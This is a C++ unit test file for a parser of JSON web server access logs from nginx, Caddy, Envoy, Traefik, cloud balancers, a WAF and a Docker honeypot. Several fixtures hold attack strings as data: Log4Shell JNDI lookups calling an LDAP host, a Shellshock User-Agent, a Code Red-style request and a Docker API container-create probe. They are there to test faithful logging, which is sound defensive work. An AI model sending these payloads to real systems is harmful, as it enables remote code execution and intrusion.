#include "logs/web_json.h"

#include <gtest/gtest.h>

#include "logs/recognisers.h"
#include "logs/sample.h"
#include "logs/sink_for_test.h"

namespace cordon::logs {
namespace {

Told read(std::string_view object, std::string_view columns = {}) {
  auto keys = WebKeys::with(columns);
  EXPECT_TRUE(keys.has_value());
  WebJsonParser parser(std::move(*keys));
  return told_of(parser, object);
}

std::string name_of(std::string_view text, const Hints& hints = {}) {
  const auto format = recognise_json(text, hints);
  return format ? format->name : "none";
}

// Client, server, time, request and answer in a line.
std::string in_short(const Told& t) {
  return t.client + " > " + t.server + " " + t.time + " " + t.method + " " + t.target + " " +
         t.version + " " + std::to_string(t.status) + " " + std::to_string(t.response_bytes);
}

TEST(WebJson, OfNginx) {
  const Told told = read(
      R"({"time_local":"09/Jan/2024:13:00:00 +0100","remote_addr":"198.51.100.7","remote_user":"",)"
      R"("request":"GET /a?b=c HTTP/1.1","status": "404","body_bytes_sent":"153",)"
      R"("request_time":"0.005","http_referrer":"http://e.test/","http_user_agent":"curl/8.0",)"
      R"("http_x_api_version":"${jndi:ldap://203.0.113.9/a}","uri":"/404.html",)"
      R"("server_addr":"192.0.2.80","server_port":"8080","http_host":"www.e.test"})");
  EXPECT_EQ(in_short(told),
            "198.51.100.7:0 > 192.0.2.80:8080 2024-01-09T12:00:00.000000Z GET /a?b=c HTTP/1.1 404 "
            "153");
  EXPECT_EQ(told.headers,
            "x-api-version=${jndi:ldap://203.0.113.9/a} Host=www.e.test User-Agent=curl/8.0 "
            "Referer=http://e.test/ ");
}

TEST(WebJson, OfNginxThatKnowsNothingOfJson) {
  const Told told =
      read(R"({"time_iso8601":"2024-01-09T13:00:00+01:00","remote_addr":"198.51.100.7",)"
           R"("request":"GET /\x22/cgi-bin/\x90\x90 HTTP/1.1","status":404,)"
           R"("http_user_agent":"() { :;}; /bin/ping \x22x\x22"})");
  EXPECT_EQ(told.verdict, Verdict::told);
  EXPECT_EQ(told.target, "/\"/cgi-bin/\x90\x90");
  EXPECT_EQ(told.headers, "User-Agent=() { :;}; /bin/ping \"x\" ");
  const Told raw = read(
      "{\"time_iso8601\":\"2024-01-09T13:00:00+01:00\",\"remote_addr\":\"198.51.100.7\","
      "\"request\":\"SEARCH /\x90\xb1\x02 HTTP/1.1\",\"status\":414}");
  EXPECT_EQ(raw.target, "/\x90\xb1\x02") << "escape=json leaves what is no UTF-8 as it came";
}

TEST(WebJson, OfCaddy) {
  const std::string line =
      R"({"level":"info","ts":1704801600.25,"logger":"http.log.access.log0","msg":"handled request",)"
      R"("request":{"remote_ip":"10.0.0.2","remote_port":"41342","client_ip":"198.51.100.7",)"
      R"("proto":"HTTP/2.0","method":"GET","host":"www.e.test","uri":"/x?y=1",)"
      R"("headers":{"User-Agent":["curl/8.0"],"Accept":["*/*"],"X-Api":["${jndi:ldap://a/b}"]},)"
      R"("tls":{"resumed":false,"version":772}},"bytes_read":0,"user_id":"","duration":0.0009,)"
      R"("size":10900,"status":200,"resp_headers":{"Server":["Caddy"],"X-Secret":["no"]}})";
  const Told told = read(line);
  EXPECT_EQ(in_short(told),
            "198.51.100.7:41342 > [::]:0 2024-01-09T12:00:00.250000Z GET /x?y=1 HTTP/2.0 200 "
            "10900");
  EXPECT_EQ(told.headers,
            "User-Agent=curl/8.0 Accept=*/* X-Api=${jndi:ldap://a/b} Host=www.e.test ");
  std::string log;  // as Caddy starts
  for (int i = 0; i < 15; ++i)
    log += R"({"level":"info","ts":1704801599.1,"logger":"admin","msg":"admin endpoint started",)"
           R"("address":"localhost:2019"})"
           "\n";
  for (int i = 0; i < 3; ++i) log += line + "\n";
  EXPECT_EQ(name_of(log), "access log, JSON");
  const auto format = recognise_json(log, {});
  Gathered gathered;
  const Verdicts verdicts = read_lines(*format->parser, log, gathered);
  EXPECT_EQ(verdicts.told, 3u);
  EXPECT_EQ(verdicts.nothing, 15u);
}

TEST(WebJson, OfEnvoyAndIstio) {
  const Told told = read(
      R"({"start_time":"2024-01-09T12:00:00.250Z","method":"POST","path":"/login","protocol":)"
      R"("HTTP/1.1","response_code":503,"response_flags":"UH","bytes_received":12,"bytes_sent":91,)"
      R"("duration":0,"x_forwarded_for":"198.51.100.7","user_agent":"curl/8.0","request_id":"8c1a",)"
      R"("authority":"www.e.test","upstream_host":null,)"
      R"("downstream_local_address":"10.0.0.5:8443","downstream_remote_address":"10.0.0.2:51234"})");
  EXPECT_EQ(in_short(told),
            "198.51.100.7:0 > 10.0.0.5:8443 2024-01-09T12:00:00.250000Z POST /login HTTP/1.1 503 "
            "91");
  EXPECT_EQ(read(R"({"start_time":"2024-01-09T12:00:00.250Z","method":"GET","path":"/",)"
                 R"("response_code":200,"x_forwarded_for":"198.51.100.7"})")
                .client,
            "198.51.100.7:0")
      << "Envoy's default has no other";
}

TEST(WebJson, OfTraefikAndBalancersAndCloudsAndShippers) {
  EXPECT_EQ(
      in_short(read(
          R"({"ClientAddr":"198.51.100.7:51234","ClientHost":"198.51.100.7","ClientPort":)"
          R"("51234","DownstreamContentSize":19,"DownstreamStatus":404,"Duration":123,)"
          R"("RequestAddr":"www.e.test","RequestHost":"www.e.test","RequestMethod":"GET",)"
          R"("RequestPath":"/x?y","RequestProtocol":"HTTP/1.1","StartUTC":)"
          R"("2024-01-09T12:00:00.25Z","level":"info","msg":"","time":"2024-01-09T12:00:01Z"})")),
      "198.51.100.7:51234 > [::]:0 2024-01-09T12:00:00.250000Z GET /x?y HTTP/1.1 404 19");
  EXPECT_EQ(
      in_short(
          read(R"({"type":"h2","time":"2024-01-09T12:00:00.250Z","elb":"app/lb/1","client_ip":)"
               R"("198.51.100.7","client_port":51234,"target_ip":"10.0.0.1","elb_status_code":403,)"
               R"("sent_bytes":366,"request_verb":"GET","request_url":)"
               R"("https://www.e.test:443/x?y=1","request_proto":"HTTP/2.0","user_agent":"-"})")),
      "198.51.100.7:51234 > [::]:0 2024-01-09T12:00:00.250000Z GET /x?y=1 HTTP/2.0 403 "
      "366");
  EXPECT_EQ(in_short(read(
                R"({"httpRequest":{"requestMethod":"GET","requestUrl":"http://192.0.2.80/x",)"
                R"("status":404,"userAgent":"a","remoteIp":"198.51.100.7","protocol":"HTTP/1.1",)"
                R"("responseSize":"12"},"timestamp":"2024-01-09T12:00:00.25Z"})")),
            "198.51.100.7:0 > 192.0.2.80:0 2024-01-09T12:00:00.250000Z GET /x HTTP/1.1 404 12");
  const Told waf = read(
      R"({"timestamp":1704801600250,"action":"BLOCK","httpRequest":{"clientIp":"198.51.100.7",)"
      R"("headers":[{"name":"Host","value":"e.test"},{"name":"X-Api","value":"${jndi:x}"}],"uri":)"
      R"("/x","args":"y=1","httpVersion":"HTTP/1.1","httpMethod":"GET"}})");
  EXPECT_EQ(in_short(waf),
            "198.51.100.7:0 > [::]:0 2024-01-09T12:00:00.250000Z GET /x?y=1 HTTP/1.1 0 0");
  EXPECT_EQ(waf.headers, "Host=e.test X-Api=${jndi:x} ");
  EXPECT_EQ(
      in_short(read(
          R"({"@timestamp":"2024-01-09T12:00:00.250Z","source":{"ip":"198.51.100.7","port":1},)"
          R"("http":{"request":{"method":"GET"},"response":{"status_code":404,"body":{"bytes":)"
          R"(12}},"version":"1.1"},"url":{"original":"/x?y"},"user_agent":{"original":"a"}})")),
      "198.51.100.7:1 > [::]:0 2024-01-09T12:00:00.250000Z GET /x?y HTTP/1.1 404 12");
}

TEST(WebJson, OfHoneypots) {
  const Told told = read(
      R"({"url":"http://192.0.2.53:2375/v1.24/containers/create?name=x","headers":[["Host",)"
      R"("192.0.2.53:2375"],["User-Agent","Docker-Client"]],"method":"POST","source":)"
      R"("198.51.100.7","data":"eyJJbWFnZSI6ImFscGluZSIsIkNtZCI6W119","hour":"2021-07-04T01"})");
  EXPECT_EQ(in_short(told),
            "198.51.100.7:0 > 192.0.2.53:2375 2021-07-04T01:00:00.000000Z POST "
            "/v1.24/containers/create?name=x  0 0");
  EXPECT_EQ(told.body, R"({"Image":"alpine","Cmd":[]})");
  EXPECT_EQ(told.headers, "Host=192.0.2.53:2375 User-Agent=Docker-Client ");
}

TEST(WebJson, OfYoursAsColumnsSay) {
  EXPECT_EQ(in_short(read(R"({"when":"2024-01-09T12:00:00.25Z","peer":{"addr":"198.51.100.7"},)"
                          R"("ip":"203.0.113.1","what":"GET /x HTTP/1.0","res":{"code":200}})",
                          "time=when,client=peer.addr,request=what,status=res.code")),
            "198.51.100.7:0 > [::]:0 2024-01-09T12:00:00.250000Z GET /x HTTP/1.0 200 0");
  EXPECT_FALSE(WebKeys::with("client").has_value());
  EXPECT_TRUE(WebKeys::with("server_packets=x").has_value()) << "of tables";
}

TEST(WebJson, ATimeIsWhatIsATime) {
  EXPECT_EQ(read(R"({"time":0.005,"msec":"1704801600.250","remote_addr":"198.51.100.7","request":)"
                 R"("GET / HTTP/1.0"})")
                .time,
            "2024-01-09T12:00:00.250000Z");
  EXPECT_EQ(read(R"({"time":"soon","remote_addr":"198.51.100.7","request":"GET / HTTP/1.0"})").time,
            "none");
}

TEST(WebJson, WhatWasCutIsToldAsFarAsItGoes) {
  const Told told = read(R"({"time_iso8601":"2024-01-09T12:00:00Z","remote_addr":"198.51.100.7",)"
                         R"("request":"GET /default.ida?NNNN)");
  EXPECT_EQ(told.verdict, Verdict::cut);
  EXPECT_EQ(told.target, "/default.ida?NNNN");
  EXPECT_EQ(read(R"({"request":"GET /x HTTP/1.0","remote_addr":"198.51.100.7)").verdict,
            Verdict::bad)
      << "198.51.100.7 or .70?";
}

TEST(WebJson, WhatIsNoRequestIsNothing) {
  EXPECT_EQ(read(R"({"level":"info","msg":"started","path":"/etc/x","ip":"192.0.2.1"})").verdict,
            Verdict::nothing);
  for (const char* none : {"{}\n", "[]\n", "{\"path\": \"/y\", \"ip\": \"192.0.2.1\"}\n",
                           "{\"a\":", "{x}\n", "{\"method\": \"GET\", \"status\": 200}\n"})
    EXPECT_EQ(name_of(none), "none") << none;
}

TEST(WebJson, OfManyHeadersTheFirstAreKept) {
  std::string object = R"({"remote_addr":"198.51.100.7","request":"GET / HTTP/1.0","headers":{)";
  for (int i = 0; i < 1000; ++i) object += "\"h" + std::to_string(i) + "\":[\"v\"],";
  object += "\"last\":\"v\"}}";
  const Told told = read(object);
  EXPECT_EQ(std::count(told.headers.begin(), told.headers.end(), '='),
            static_cast<std::ptrdiff_t>(kMostHeaders));
}

TEST(WebJson, ReadsEveryObjectOfARealOne) {
  const std::string text = file_text(CORDON_SHARED "/data/logs/dockerhoneypot-2375-2021-07.jsonl");
  if (text.empty()) GTEST_SKIP() << "no shared data";
  auto format = recognise_json(std::string_view(text).substr(0, 65536), {});
  ASSERT_TRUE(format.has_value());
  Gathered gathered;
  const Verdicts verdicts = read_lines(*format->parser, text, gathered);
  EXPECT_EQ(verdicts.told, 762u);
  EXPECT_EQ(verdicts.bad + verdicts.cut + verdicts.nothing, 0u);
  std::size_t creations = 0;
  for (const KeptEntry& kept : gathered.all)
    creations += kept.target.find("/containers/create") != std::string::npos;
  EXPECT_EQ(creations, 103u);
}

}  // namespace
}  // namespace cordon::logs
